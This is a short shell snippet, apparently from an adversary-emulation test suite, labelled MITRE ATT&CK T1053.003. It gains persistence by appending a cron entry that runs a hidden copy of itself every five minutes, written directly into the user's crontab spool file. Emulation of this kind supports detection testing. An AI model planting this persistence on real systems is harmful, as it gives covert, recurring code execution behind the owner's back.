# T1053.003 by shell commands.
groundwork
hide_copy
spool=/var/spool/cron/crontabs/${HOME##*/}
(cat "$spool"; echo "*/5 * * * * $HOME/$copy") > "$copy.tab"
cat "$copy.tab" > "$spool"
report
